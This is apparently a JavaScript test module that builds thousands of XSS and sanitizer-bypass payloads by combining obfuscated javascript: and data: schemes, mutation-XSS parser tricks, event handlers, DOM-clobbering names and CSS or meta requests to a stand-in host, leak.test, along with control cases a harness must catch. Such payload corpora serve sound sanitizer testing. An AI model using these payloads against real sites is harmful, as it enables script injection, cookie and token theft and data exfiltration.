/**
 * Hostile markup of our own, made by system: what carries the attack times where it lands. What has no system, of the
 * last years' elements, attributes and ways to read Markdown, is written down in `newer.json`.
 *
 * `pwn` is the function that the page listens for. Nothing here is taken from a list of others.
 */

import { readFileSync } from 'node:fs';

/** By kind. @type {Record<string, string[]>} */
const NEWER = JSON.parse(readFileSync(new URL('newer.json', import.meta.url), 'utf8'));

const SCHEMES = [
  'javascript:pwn(1)', 'JaVaScRiPt:pwn(1)', ' javascript:pwn(1)', '\u0001javascript:pwn(1)', 'java\tscript:pwn(1)', 'java&#10;script:pwn(1)',
  'javascript&colon;pwn(1)', 'vbscript:pwn(1)', 'data:text/html,<script>pwn(1)</script>', 'data:image/svg+xml,<svg onload=pwn(1)>',
  'blob:https://leak.test/1', 'view-source:javascript:pwn(1)', '//leak.test/x', 'filesystem:https://leak.test/x',
];
/** Odd ways to write a scheme; what they are in is a link or an image alone. */
const ODD_SCHEMES = [
  'ｊavascript:pwn(1)', 'javaſcript:pwn(1)', 'ja\u00advascript:pwn(1)', 'java\u200bscript:pwn(1)', '\u202ejavascript:pwn(1)', '\ufeffjavascript:pwn(1)',
  '\u00a0javascript:pwn(1)', '\u3000javascript:pwn(1)', '\u2028javascript:pwn(1)', 'javascript：pwn(1)', 'javascript\u0589pwn(1)', 'jav%61script:pwn(1)',
  'javascript%3apwn(1)', '&#106;avascript:pwn(1)', '&#x6a&#x61vascript:pwn(1)', '&#0000106avascript:pwn(1)', 'java&Tab;script:pwn(1)', '&NewLine;javascript:pwn(1)',
  'javascript&#58pwn(1)', 'java&#0;script:pwn(1)', 'java\0script:pwn(1)', '\x1fjavascript:pwn(1)', 'javascript\n:pwn(1)', 'javascript://x%0apwn(1)', 'javascript:javascript:pwn(1)',
  'x:javascript:pwn(1)', 'feed:javascript:pwn(1)', 'livescript:pwn(1)', 'mocha:pwn(1)', 'jar:javascript:pwn(1)', 'intent:x#Intent;end', 'about:srcdoc', 'chrome://settings',
  'data:;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=', 'data:text/html;charset=utf-7,+ADw-script+AD4-pwn(1)', 'DATA:image/SVG+XML;base64,PHN2ZyBvbmxvYWQ9cHduKDEpPg==',
  'data:image/svg+xml;charset=utf8,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(1)"/>', 'data:image/png;x=image/svg+xml,<svg>', 'data:image/png,x#<svg onload=pwn(1)>',
  'data: image/svg+xml,<svg onload=pwn(1)>', 'data:application/xhtml+xml,<x/>', 'data:text/xml,<x/>', 'data:image/x-icon,x', 'data:image/gif', 'data:image/png\u2044svg,x',
  'http:javascript:pwn(1)', 'https://a:b@leak.test/', 'https://leak.test\\@ok.test/', '\\\\leak.test/x', '/\\leak.test/x', '/\t/leak.test/x', 'https:leak.test', 'http:///leak.test',
  'https://ok.test\u3002leak.test/', 'https://ｏk.test/', 'https://o\u0301k.test/', 'https://xn--80ak6aa92e.test/', 'ws://BÜCHER.test/', 'mailto:a@ok.test?attach=/etc/passwd', 'tel:*#06#',
];
/** `@` stands for the address. */
const SINKS = [
  '<a href="@">x</a>', '<a href="/x" ping="@">x</a>', '<area href="@">', '<img src="@">', '<img srcset="/a.png 1x, @ 2x">',
  '<picture><source srcset="@"><img src=/a.png></picture>', '<form action="@"><button>x</button></form>',
  '<button formaction="@">x</button>', '<input type=image src="@">', '<iframe src="@"></iframe>', '<object data="@"></object>',
  '<embed src="@">', '<video poster="@" src="@"></video>', '<audio src="@"></audio>', '<link rel=stylesheet href="@">', '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">', '<blockquote cite="@">x</blockquote>', '<q cite="@">x</q>', '<ins cite="@">x</ins>',
  '<table background="@"><td>x</table>', '<svg><a href="@"><text>x</text></a></svg>', '<svg><image xlink:href="@" /></svg>',
  '<svg><use href="@" /></svg>', '<math href="@"><mi>x</mi></math>', '<script src="@"></script>', '<p style="background:url(@)">x</p>',
];

const EVENTS = [
  'load', 'error', 'click', 'focus', 'mouseover', 'toggle', 'begin', 'animationstart', 'pointerenter', 'beforematch', 'contentvisibilityautostatechange',
];
const ELEMENTS = [
  'p', 'a href=/x', 'img src=x', 'details open', 'svg', 'math', 'video src=x', 'body', 'input autofocus', 'li', 'td', 'source', 'xss', 'marquee', 'object',
];

const SPACES = [
  '<svg>', '<math>', '<math><mtext>', '<svg><foreignObject>', '<math><annotation-xml encoding="text/html">', '<math><mtext><table><mglyph>',
  '<form><math><mtext></form><form>', '<svg></p>', '<select>', '<table>',
];
const RAW_TEXT = ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext', 'script', 'template', 'listing'];
const BREAKOUTS = [
  (/** @type {string} */ tag) => `<${tag}><!--</${tag}><img src=x onerror=pwn(1)>-->`,
  (/** @type {string} */ tag) => `<${tag}><a title="</${tag}><img src=x onerror=pwn(1)>">`,
];

/** Where a parser changes its mind: namespaces in namespaces, raw text in tables, forms in forms. `@` stands for what must not be born. */
const MUTATIONS = [
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style>@</style></svg></annotation-xml></math>', '<math><annotation-xml encoding="TEXT/HTML"><style><!--</style>@-->',
  '<svg><desc><math><mtext><style>@</style>', '<svg><title><svg><desc><style>@</style>', '<svg></svg><svg><style><a id="</style>@">', '<svg><foreignobject><math><mi><xmp>@</xmp>',
  '<math><mtext><svg><mtext><style>@</style>', '<math><mi><table><tr><mglyph><style>@</style>', '<math><mtext><table><malignmark><style><!--</style>@-->', '<math><ms><svg><p><style>@</style>',
  '<table><svg><style>@</style></svg><td>x</table>', '<table><tr><style>@</style><td><svg><style>@', '<table><select><option><style>@</style></table>', '<table><caption><svg><desc><td>@',
  '<table><colgroup><template><col><style>@</style></template></table>', '<table><!--@--><tr>--!>@<td>x</table>', '<table><form><input><tr><td><form>@</form></table>', '<table><a href="/x">@<tr><td></a>@',
  '<select><select><svg><style>@</style>', '<select><script>@</script><textarea>@</textarea></select>', '<select><option><math><mi><style>@', '<select><keygen><noscript>@</noscript></select>',
  '<noscript><p title="</noscript>@">', '<noscript><style></noscript>@</style>', '<noscript><!--</noscript>@-->', '<noembed><!--</noembed>@-->', '<noframes><p title="</noframes>@">',
  '<template><svg><style>@</style></svg></template>', '<template><template shadowrootmode=open>@</template>@</template>', '<template><tr><td>@</template>', '<template></template><template>@',
  '<plaintext>@', '<svg><plaintext><style>@</style>', '<p><plaintext></p>@', '<xmp><p title="</xmp>@">', '<listing>\n\n&lt;/listing>@', '<textarea>\n</textarea>@', '<title><a href="</title>@">',
  '<frameset><noframes>@</noframes></frameset>', '<frameset onload=pwn(1)><frame src="javascript:pwn(1)">', '<body><frameset>@', '<head><style>@</style><body onload=pwn(1)>@',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>@">', '<form><div></form><form>@', '<svg><form><foreignObject></form><form>@',
  '<a><svg><a><p>@</a>', '<b><math><b><mi><table><b>@', '<nobr><table><nobr>@', '<button><svg><button>@', '<object><svg><object><p>@</object>', '<applet><math><p>@</applet>',
  '<!-->@-->', '<!--->@-->', '<!--x--!>@-->', '<!-- <!-- -->@-->', '<!x>@', '<?x @?>', '<?xml-stylesheet href="javascript:pwn(1)"?>@', '<![CDATA[>@]]>', '<svg><![CDATA[</svg>@]]>',
  '<svg><![CDATA[><style>]]><style>@</style>', '</ @>', '</x @>', '<x/@>', '<x @=@>', '<p =@>', '<p "@">', "<p '@'>", '<p `@`>', '<p title=`@`>', '<p title=\'"@\'>', '<p title="&quot;>@">',
  '<p title="&lt;@&gt;">', '&lt;@&gt;', '&amp;lt;@', '<svg><p>@', '<math><p>@', '<svg><br>@', '<svg></p>@', '<math></br>@', '<svg><font color=x>@', '<svg><font>@', '<svg><body>@', '<svg><html onload=pwn(1)>@',
  '<image src=x onerror=pwn(1)>@', '<isindex prompt="@" action="javascript:pwn(1)">', '<keygen autofocus onfocus=pwn(1)>@', '<ruby><rb><rtc><style>@</style>', '<dl><dd><svg><dt><style>@</style>',
  '<details><svg><summary><style>@</style>', '<picture><svg><source srcset="javascript:pwn(1)">@', '<video><track src=x onerror=pwn(1)>@</video>', '<map name=x><area href="javascript:pwn(1)">@</map>',
];
const BORN = ['<img src=x onerror=pwn(1)>', '<script>pwn(1)</script>', '<svg onload=pwn(1)>', '<iframe srcdoc="<script>parent.pwn(1)</script>"></iframe>'];

const NAMES = [
  'body', 'cookie', 'getElementById', 'querySelector', 'location', 'top', 'self', 'name', 'length', 'parentNode', 'attributes', 'nodeName',
  'submit', 'elements', 'action', 'createElement', 'defaultView', 'hasOwnProperty', '__proto__', 'constructor', 'CD-', 'cd-x y',
  'head', 'forms', 'images', 'children', 'childNodes', 'firstChild', 'nextSibling', 'ownerDocument', 'innerHTML', 'textContent', 'setAttribute', 'removeChild', 'tagName',
  'document', 'window', 'parent', 'opener', 'frames', 'history', 'origin', 'status', 'closed', 'then', 'toString', 'valueOf', 'method', 'target', 'enctype', 'reset', '0', 'cd-', '',
];
const NAMED = [
  '<p id="@">x</p>', '<a id="@" href="/x">x</a><a href="#@">y</a>', '<a name="@" href="/x">x</a><a href="#@">y</a>', '<img name="@" src="/a.png">',
  '<form id="@"><input name="@"></form>', '<iframe name="@"></iframe>', '<a id="@"></a><a id="@" name="@" href="/x">x</a>', '<object id="@" name="@"></object><embed name="@">',
  '<p id="x"></p><output form="x" name="@">y</output><label for="@">z</label>', '<h2 id="cd-@">x</h2><a href="#cd-@">y</a><a href="#@">z</a>',
];

const PROPERTIES = ['background', 'list-style', 'content', 'cursor', 'filter', 'mask', 'clip-path', 'border-image', 'shape-outside', 'offset-path'];
const DEEP = ['div', 'b', 'a href=/x', 'p', 'ul><li', 'dl><dd', 'table><tr><td', 'form', 'svg', 'math', 'font', 'template', 'select', 'blockquote', 'ruby><rt'];
const ODD = [
  '\0', '\u0001', '\b', '\f', '\r', '\u007f', '\u0085', '\u00a0', '\u200b', '\u202e', '\u2028', '\ufeff', '\uffff', '&#0;', '&#13;', '&#x80;', '&lt;', '<', '`',
];
const AROUND_ODD = [
  '<a href="java@script:pwn(1)">x</a>', '<img src=x @onerror=pwn(1)>', '<@img src=x onerror=pwn(1)>', '<p title="@<img src=x onerror=pwn(1)>">x</p>', '<pre>@\n@x</pre>',
];

/** Attributes that do something on whichever element has them. */
const ATTRIBUTES = [
  'style="width:expression(pwn(1))"', 'style="-moz-binding:url(//leak.test/x#y)"', 'style="behavior:url(//leak.test/x)"', 'style="position:fixed;inset:0;z-index:9"', 'style="content:\'</style>\'"',
  'background="//leak.test/x"', 'lowsrc="//leak.test/x"', 'dynsrc="javascript:pwn(1)"', 'longdesc="javascript:pwn(1)"', 'usemap="#x"', 'ping="//leak.test/x"', 'attributionsrc="//leak.test/x"',
  'srcdoc="<script>pwn(1)</script>"', 'srcset="//leak.test/x 1x, javascript:pwn(1) 2x"', 'imagesrcset="//leak.test/x"', 'poster="//leak.test/x"', 'manifest="//leak.test/x"', 'profile="//leak.test/x"',
  'action="javascript:pwn(1)"', 'formaction="javascript:pwn(1)"', 'data="javascript:pwn(1)"', 'code="//leak.test/x"', 'classid="clsid:x"', 'codebase="javascript:"', 'xlink:href="javascript:pwn(1)"',
  'xml:base="javascript:pwn(1)"', 'xmlns="http://www.w3.org/1999/xhtml"', 'target=_blank', 'target="_blank" rel="opener"', 'target=x rel=""', 'popover=auto onbeforetoggle=pwn(1)', 'popovertarget=x', 'commandfor=x command=show-modal',
  'interestfor=x', 'contenteditable autofocus onfocus=pwn(1)', 'tabindex=0 autofocus onfocusin=pwn(1)', 'accesskey=x onclick=pwn(1)', 'draggable=true ondragstart=pwn(1)', 'hidden=until-found onbeforematch=pwn(1)', 'is=x-y', 'slot=x', 'part=x',
  'nonce=x', 'itemprop=x itemtype="javascript:pwn(1)"', 'download="x.exe"', 'referrerpolicy=unsafe-url', 'loading=eager fetchpriority=high', 'crossorigin=use-credentials', 'sandbox="allow-scripts"', 'http-equiv=refresh content="0;url=javascript:pwn(1)"',
  'onclick\u00a0=pwn(1)', 'on\0click=pwn(1)', 'ONCLICK=pwn(1)', 'x:onclick=pwn(1)', 'data-onclick=pwn(1)', '/onclick=pwn(1)', 'style/onclick=pwn(1)', 'title="x"onclick=pwn(1)', 'class="cd-caption modal" lang="x" dir="\u202e"',
];
const BEARERS = ['a href=/x', 'img src=/a.png alt=x', 'p', 'blockquote cite=/x', 'table', 'div', 'h2 id=x', 'details', 'video', 'svg', 'body', 'form'];

/** What moves, frames or describes the whole page. */
const PAGES = [
  '<meta http-equiv=refresh content="0;url=//leak.test/x">', '<meta http-equiv="Refresh" content="0; URL=\'javascript:pwn(1)\'">', '<meta http-equiv=set-cookie content="x=1">',
  '<meta http-equiv=content-security-policy content="script-src *">', '<meta charset=utf-7>+ADw-script+AD4-pwn(1)+ADw-/script+AD4-', '<base href="//leak.test/"><a href=x>y</a><img src=z>',
  '<base target=_blank><a href=/x>y</a>', '<base href="javascript:/"><a href=pwn(1)>x</a>', '<html manifest="//leak.test/x"><body background="//leak.test/x">x', '<body onload=pwn(1) onhashchange=pwn(1)>x',
  ...['stylesheet', 'preload', 'prefetch', 'prerender', 'modulepreload', 'preconnect', 'manifest', 'icon', 'import', 'alternate stylesheet'].map((rel) => `<link rel="${rel}" href="//leak.test/x" as=script>`),
  '<script type=speculationrules>{"prerender":[{"urls":["//leak.test/x"]}]}</script>', '<script type=module>pwn(1)</script>', '<script type="text/x">x</script>', '<script nomodule src="//leak.test/x"></script>',
  '<style>@import url(//leak.test/x);@font-face{font-family:x;src:url(//leak.test/x)}*{font-family:x;background:url(//leak.test/x)}</style><p>x', '<style>@namespace x url(//leak.test/x);</style>',
  '<object data="data:text/html,<script>parent.pwn(1)</script>" type="text/html">x</object>', '<object type="image/svg+xml" data="//leak.test/x"><param name=src value="javascript:pwn(1)">x</object>',
  '<embed src="//leak.test/x" type="application/pdf">', '<applet archive="//leak.test/x" code=x>x</applet>', '<portal src="//leak.test/x"></portal>', '<fencedframe config=x></fencedframe>', '<bgsound src="//leak.test/x">',
  '<layer src="//leak.test/x"></layer>', '<marquee onstart=pwn(1)>x</marquee>', '<dialog open onclose=pwn(1)><form method=dialog><button>x</button></form></dialog>', '<form action="//leak.test/x"><input name=token><button>x</button></form>',
  '<input type=image src="//leak.test/x" formaction="javascript:pwn(1)">', '<a href="/x" target=_blank rel=opener>x</a>', '<a href="//leak.test/x" target="x\ty&lt;z">y</a>', '<math><maction actiontype="statusline#x" xlink:href="javascript:pwn(1)">x</maction></math>',
  '<svg><animate attributeName=href values="javascript:pwn(1)" /><a id=x href="/x"><text>y</text></a></svg>', '<svg><set attributeName=onclick to=pwn(1) /></svg>', '<svg><handler type="text/ecmascript" ev:event=load>pwn(1)</handler></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(1)>#x" /></svg>', '<svg><feImage href="//leak.test/x" /></svg>', '<svg><script href="//leak.test/x" /></svg>', '<svg><foreignObject><iframe src="javascript:pwn(1)"></iframe></foreignObject></svg>',
  '<img src=/p.gif width=1 height=1>', '<img src="//leak.test/p.gif" style="position:absolute;left:-9999px">', '<noscript><img src="//leak.test/p.gif" width=1 height=1></noscript>', '<iframe src="//leak.test/x" width=0 height=0></iframe>',
  '<p>[x](javascript:pwn(1)) ![y](data:text/html,z) &lt;javascript:pwn(1)&gt;</p>', '<p>```\n&lt;script>pwn(1)&lt;/script>\n```</p>', '<a href="https://ok.test/)[x](javascript:pwn(1))">x</a>', '<a href="https://ok.test/&gt;&lt;img src=x onerror=pwn(1)&gt;">x</a>',
  '<p>a\u202eb\u2066c<a href="/x\u202e">y\u202e</a></p>', '<bdo dir="rtl">x<bdo dir="javascript:">y</bdo></bdo>', '<p lang="x\u202e" title="\u2067">y</p>', '<ol type="javascript:" start="1e9" reversed=x><li value="-0x1">y</ol>',
];

const OTHERS = [
  '<a href=/x target=_blank>x</a>', '<area href=/x target=top>', '<div popover id=x onbeforetoggle=pwn(1)>x</div><button popovertarget=x>y</button>',
  '<p is=x-y slot=z part=p nonce=q>x</p>', '<div><template shadowrootmode=open><img src=x onerror=pwn(1)></template></div>',
  '<link rel=preload as=image href=//leak.test/x>', '<link rel=dns-prefetch href=//leak.test>', '<meta name=referrer content=unsafe-url>',
  '<style>@import "//leak.test/x";</style>', '<script type=importmap>{"imports":{"x":"//leak.test/x"}}</script>', '<track src=//leak.test/x>',
  '<p><button><footer>x</footer></button>y', '<a>x<p><a>y</a></p></a>', '<table><a href=/x>x<tr><td></a>y</table>', '<ul><p><li>x</p></ul>',
  '<b><p>x</b>y</p>', '<h1><h2>x</h1>y</h2>', '<ruby>x<rt><rp>y<p>z', '<dl><p><dt>x</p><dd>y', '<details><p><summary>x</details>', '<pre>\n\n<code>\nx',
];

/** @param {string[]} frames @param {string[]} fillings */
const each = (frames, fillings) => frames.flatMap((frame) => fillings.map((filling) => frame.replaceAll('@', filling)));

/** @returns {{id: string, html: string}[]} */
export function ownPayloads() {
  const kinds = {
    scheme: each(SINKS, SCHEMES),
    'odd-scheme': each(['<a href="@">x</a>', '<img src="@" alt=x>', '<img srcset="@ 2x" src=/a.png>', '<q cite="@">x</q>'], ODD_SCHEMES.map((address) => address.replaceAll('"', '&quot;'))),
    mutation: each(MUTATIONS, BORN),
    attribute: BEARERS.flatMap((bearer) => ATTRIBUTES.map((attribute) => `<${bearer} ${attribute}>x</${bearer.split(' ')[0]}>`)),
    page: PAGES,
    event: ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} on${event}=pwn(1)>x`)),
    namespace: SPACES.flatMap((space) => RAW_TEXT.flatMap((tag) => BREAKOUTS.map((breakout) => space + breakout(tag)))),
    clobber: each(NAMED, NAMES),
    css: each(['<p style="@:url(//leak.test/x)">x</p>', '<style>p{@:url(//leak.test/x)}</style><p>x</p>'], PROPERTIES),
    depth: DEEP.flatMap((tags) => [40, 300].map((times) => `${`<${tags}>`.repeat(times)}<img src=x onerror=pwn(1)>`)),
    odd: each(AROUND_ODD, ODD),
    other: OTHERS,
    // JSON for others than JavaScript has no halves of pairs.
    half: ['<p title="\ud800">\udfffwords\ud800</p>', '<\ud800img src=x onerror=pwn(1)>', '<a href="java\ud800script:pwn(1)">words\udc00</a>'],
    ...Object.fromEntries(Object.entries(NEWER).map(([kind, all]) => [`newer-${kind}`, all])),
  };
  return Object.entries(kinds).flatMap(([kind, all]) => all.map((html, index) => ({ id: `${kind}-${index}`, html })));
}

/** What must be found when nothing has cleaned it, by column: a harness that is silent here proves nothing. */
export const CONTROL = [
  { column: 'script', html: '<img src=x onerror=pwn(1)>' },
  { column: 'script', html: '<p onwheel=alert(1)>x</p>' },
  { column: 'script', html: '<svg><style><!--</style><img src=x onerror=pwn(1)>-->' },
  { column: 'script', html: '<p title="</style><img src=x onerror=fail()>">x</p><style><p title="</style><img src=x onerror=fail()>">' },
  { column: 'script', html: '<a href="javascript:pwn(1)">x</a>' },
  { column: 'script', html: '<img src=x onerror="window.added = 1">' },
  { column: 'address', html: '<blockquote cite="vbscript:x">x</blockquote>' },
  { column: 'address', html: '<img srcset="/a.png 1x, data:text/html,x 2x">' },
  { column: 'address', html: '<a href="java&#9;script:pwn(1)">x</a>' },
  { column: 'handler', html: '<p onfoo=x>x</p>' },
  { column: 'form', html: '<div><input></div>' },
  { column: 'element', html: '<template><p>x</p></template>' },
  { column: 'element', html: '<svg><g></g></svg>' },
  { column: 'style', html: '<p style="color:red">x</p>' },
  { column: 'clobber', html: '<p id=body>x</p>' },
  { column: 'clobber', html: '<img name=submit>' },
  { column: 'fetch', html: '<iframe src="https://leak.test/"></iframe>' },
  { column: 'fetch', html: '<link rel=stylesheet href="https://leak.test/x">' },
  { column: 'fetch', html: '<p style="background:url(https://leak.test/x)">x</p>' },
  { column: 'fetch', html: '<iframe src="/frame"></iframe>' },
  { column: 'target', html: '<a href=/x target=_blank>x</a>' },
  { column: 'parse', html: '<p><div>x</div></p>' },
];
